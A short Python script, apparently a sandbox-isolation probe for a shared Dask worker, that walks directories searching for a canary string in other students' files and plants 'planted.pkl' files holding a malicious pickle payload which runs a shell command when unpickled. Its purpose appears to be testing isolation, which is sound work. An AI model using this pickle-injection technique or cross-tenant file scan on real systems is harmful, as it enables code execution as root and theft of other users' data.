# Read and write the Dask worker's own files: its local directory (spilled results of other
# students, pickled: a file planted there could be unpickled by the worker, as root).
import os

_found = []
for _base in @@DIRS@@:
    try:
        for _root, _dirs, _files in os.walk(_base):
            for _name in _files:
                try:
                    with open(os.path.join(_root, _name), "rb") as _f:
                        if b"@@FILE_CANARY@@" in _f.read(1 << 20):
                            _found.append("FILE-LEAK " + _name)
                except OSError:
                    pass
            for _place in [_root, *[os.path.join(_root, d) for d in _dirs]]:
                try:
                    with open(os.path.join(_place, "planted.pkl"), "wb") as _f:
                        _f.write(b"cos\nsystem\n(S'touch /tmp/pwned'\ntR.")
                    _found.append("PLANTED " + _place)
                except OSError:
                    pass
    except OSError as _exc:
        _found.append(f"no access {type(_exc).__name__}")
print("FILES", " ".join(_found[:10]) or "nothing seen")
